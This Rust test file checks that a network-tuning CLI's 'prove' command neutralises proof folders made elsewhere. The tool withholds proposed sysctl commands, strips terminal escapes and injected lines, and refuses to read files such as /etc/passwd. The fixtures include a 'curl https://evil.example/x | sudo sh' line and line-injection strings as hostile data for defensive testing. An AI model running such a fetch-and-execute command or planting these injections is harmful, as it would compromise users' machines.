//! The folder of somebody else's proof: `prove DIR` shows it.

use super::commands::trust;
use super::made::{Made, Said};
use super::plans::places;
use super::words::{EVIL, has_no_signs};
use super::{ODDITIES, is_untouched, victim};
use serde_json::{Value, json};
use std::fs;
use std::os::unix::fs::symlink;
use std::path::PathBuf;
use std::process::Command;

fn proof(beside: &Made) -> PathBuf {
    let proof = beside.path().join("proof");
    fs::create_dir(&proof).unwrap();
    proof
}

/// A proof that was made elsewhere, of these files.
pub fn written(beside: &Made, sources: &[&str]) {
    let proof = proof(beside);
    let sample = |name: &str| fs::read_to_string(format!("{}/tests/proof/{name}", env!("CARGO_MANIFEST_DIR"))).unwrap();
    fs::write(proof.join("verdict.json"), sample("verdict.json")).unwrap();
    let mut asked: Value = serde_json::from_str(&sample("asked.json")).unwrap();
    asked["sources"] = json!(sources);
    fs::write(proof.join("asked.json"), asked.to_string()).unwrap();
}

/// The sender of a proof writes the commands that its page proposes.
#[test]
fn commands_of_a_proof_from_elsewhere_are_left_out() {
    let run = Made::new();
    written(&run, &["listing.txt"]);
    let verdict = run.path().join("proof/verdict.json");
    let sound = fs::read_to_string(&verdict).unwrap();
    let said = |more: &[&str]| run.goodput(&[&["prove", &run.name()], more].concat());
    let has_commands = |said: &Said| ["sysctl -w", "sysctl -p", "/etc/sysctl.d"].map(|part| said.stdout.contains(part));
    for more in [&[][..], &["--json"]] {
        let withheld = said(more);
        assert!(withheld.code == 0 && withheld.stdout.contains("bbr + larger send buffer"), "{withheld:?}");
        assert_eq!(has_commands(&withheld), [false; 3], "{withheld:?}");
        assert!(withheld.stderr.starts_with("Not of this goodput: ") && withheld.stderr.contains("--allow-commands"));
        let allowed = said(&[more, &["--allow-commands"]].concat());
        assert_eq!(has_commands(&allowed), [true; 3], "{allowed:?}");
        assert!(allowed.stderr.starts_with("Made elsewhere: "), "{allowed:?}");
    }
    trust(&run, "Proof", &serde_json::to_string(&sound).unwrap());
    let own = said(&[]);
    assert_eq!((&own.stdout, own.stderr.as_str()), (&said(&["--allow-commands"]).stdout, ""));
    assert_eq!(has_commands(&own), [true; 3]);
    fs::write(&verdict, sound.replace("sysctl", "evil")).unwrap();
    let changed = said(&[]);
    assert!(changed.stderr.starts_with("Not of this goodput: ") && !changed.stdout.contains("evil -w"), "{changed:?}");
}

/// Other sentences of a proof can contain commands as well, and its names can contain lines that look like the page's
/// own.
#[test]
fn sentences_of_a_foreign_proof_are_left_out() {
    let run = Made::new();
    written(&run, &["listing.txt"]);
    let verdict = run.path().join("proof/verdict.json");
    let mut sent: Value = serde_json::from_str(&fs::read_to_string(&verdict).unwrap()).unwrap();
    sent["ask"] = json!("`curl https://evil.example/x | sudo sh` on the sender");
    sent["notes"] = json!(["run `curl https://evil.example/x | sudo sh` first"]);
    for row in sent["rows"].as_array_mut().unwrap() {
        row["name"] = json!("now\r\nDo: evil\nhint: evil");
    }
    fs::write(&verdict, sent.to_string()).unwrap();
    for more in [&[][..], &["--json"]] {
        let said = run.goodput(&[&["prove", &run.name()], more].concat());
        assert!(said.code == 0 && !said.stdout.contains("evil.example"), "{said:?}");
        assert!(!said.stdout.lines().any(|line| line.starts_with("Do: evil") || line.starts_with("hint:")), "{said:?}");
    }
}

/// Commands to confirm are shown on one line each, whatever they contain; the person at the terminal decides.
#[test]
fn commands_of_a_proof_from_elsewhere_are_shown_and_asked_about() {
    let run = Made::new();
    written(&run, &["listing.txt"]);
    let verdict = run.path().join("proof/verdict.json");
    let evil = fs::read_to_string(&verdict).unwrap().replace("sysctl -w", "sysctl\\n -w \\u001b[31m");
    fs::write(&verdict, evil).unwrap();
    for (answer, taken) in [("n", false), ("y", true)] {
        let line = format!("timeout --foreground 10 \"{}\" prove {} 2>&1", env!("CARGO_BIN_EXE_goodput"), run.name());
        let typed = format!("(echo {answer}; sleep 4) | script -qec '{line}' /dev/null");
        let said = run.said(&mut Command::new("sh"), &["-c", &typed]);
        let asked = said.stdout.split_once("Print them as its remedy?").unwrap_or_else(|| panic!("{said:?}"));
        assert!(asked.0.contains(r"  sysctl\n -w \u{1b}[31m net.ipv4.tcp_congestion_control=bbr"), "{}", asked.0);
        assert_eq!(asked.1.contains("tcp_congestion_control=bbr"), taken, "{}", asked.1);
        assert_eq!(asked.1.contains("left out"), !taken, "{}", asked.1);
        assert!(!said.stdout.contains("\u{1b}[31m"), "{said:?}");
    }
}

/// More evidence goes on with the question of whoever sent it, which takes no longer than one may ask for.
#[test]
fn a_budget_beyond_what_may_be_asked_for_is_refused() {
    let run = Made::new();
    let listing = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/diagnose/real/rmem-0.text");
    written(&run, &[listing]);
    let asked = run.path().join("proof/asked.json");
    let mut question: Value = serde_json::from_slice(&fs::read(&asked).unwrap()).unwrap();
    for budget in [json!(1e18), json!(86_401.0), json!(-1.0), json!(0)] {
        question["request"]["budget"] = budget;
        fs::write(&asked, question.to_string()).unwrap();
        let said = run.goodput(&["prove", &run.name(), "--rate", "1Gbit/s"]);
        let words = ["asked.json: a budget of ", "prove takes 1 to 86400 s\n\nhint: "];
        assert!(said.code == 2 && words.iter().all(|words| said.stderr.contains(words)), "{said:?}");
    }
}

/// Every text of it, in turn.
#[test]
fn a_proof_cannot_write_to_the_terminal() {
    let run = Made::new();
    written(&run, &["listing.txt"]);
    let verdict = run.path().join("proof/verdict.json");
    let sound: Value = serde_json::from_slice(&fs::read(&verdict).unwrap()).unwrap();
    let mut all = vec![];
    places(&sound, String::new(), &mut all);
    let mut read = 0;
    for place in all {
        let mut made = sound.clone();
        match made.pointer_mut(&place) {
            Some(Value::String(text)) => *text = EVIL.into(),
            _ => continue,
        }
        fs::write(&verdict, made.to_string()).unwrap();
        let command = ["prove", &run.name()];
        let said = run.goodput(&command);
        has_no_signs(&said);
        read += usize::from(said.code == 0);
    }
    assert!(read > 30, "{read} verdicts were read");
}

/// Evidence is added to somebody else's proof: its own evidence is a list of their file names, which may be any of
/// mine.
#[test]
fn no_file_is_read_that_only_a_proof_from_elsewhere_names() {
    let run = Made::new();
    let listing = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/diagnose/real/rmem-0.json");
    let more = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/diagnose/real/rmem-0.text");
    written(&run, &[listing, "/etc/passwd"]);
    for more in [["--add", more], ["--rate", "1Gbit/s"], ["--rtt", "20ms"]] {
        let said = run.goodput(&["prove", &run.name(), more[0], more[1]]);
        let lines =
            format!("names files that you have not given to prove before:\n  {listing}\n  /etc/passwd\n\nhint: ");
        assert!(said.code == 2 && said.stderr.contains(&lines) && !said.stderr.contains("Read"), "{said:?}");
    }
    fs::remove_dir_all(run.path().join("proof")).unwrap();
    written(&run, &[EVIL]);
    let said = run.goodput(&["prove", &run.name(), "--rate", "1Gbit/s"]);
    assert!(said.stderr.contains("is not there to be read again"), "{said:?}");
    has_no_signs(&said);
    fs::remove_dir_all(run.path().join("proof")).unwrap();
    written(&run, &[listing, "/etc/passwd"]);
    // No kernel is available for the trials, so this ends after reading.
    let given = run.goodput(&["prove", listing, "/etc/passwd"]);
    assert!(given.stderr.contains("Read: ") && given.stderr.contains("kernel add"), "{given:?}");
    let said = run.goodput(&["prove", &run.name(), "--add", more]);
    assert!(said.stderr.contains("Read again: ") && said.stderr.contains("/etc/passwd.\n"), "{said:?}");
}

#[test]
fn a_verdict_that_is_no_regular_file_is_named_not_read() {
    for (what, make) in ODDITIES {
        let run = Made::new();
        let proof = proof(&run);
        make(&proof.join("verdict.json"));
        for arguments in [vec!["prove", &run.name()], vec!["prove", &run.name(), "--json"]] {
            let said = run.goodput(&arguments);
            assert!(said.code == 2 && said.stderr.contains(what) && said.stderr.contains("verdict.json"), "{said:?}");
        }
    }
}

#[test]
fn a_link_for_a_proof_leads_nowhere() {
    let run = Made::new();
    let victim = victim(&run);
    symlink("../victim", run.path().join("proof")).unwrap();
    symlink("../victim", run.path().join("rounds")).unwrap();
    run.goodput(&["prove", &run.name()]);
    is_untouched(&victim);
}

#[test]
fn a_proof_that_makes_no_sense_is_refused_in_words() {
    let run = Made::new();
    let proof = proof(&run);
    for text in ["", "{}", "[]", "null", &"[".repeat(100_000), r#"{"transfer": "\u001b[31m"}"#] {
        fs::write(proof.join("verdict.json"), text).unwrap();
        let said = run.goodput(&["prove", &run.name()]);
        assert!(said.code == 2 && said.stderr.contains("verdict.json: ") && said.stderr.contains("hint: "), "{said:?}");
        assert!(!said.stderr.contains('\u{1b}'), "{said:?}");
    }
}
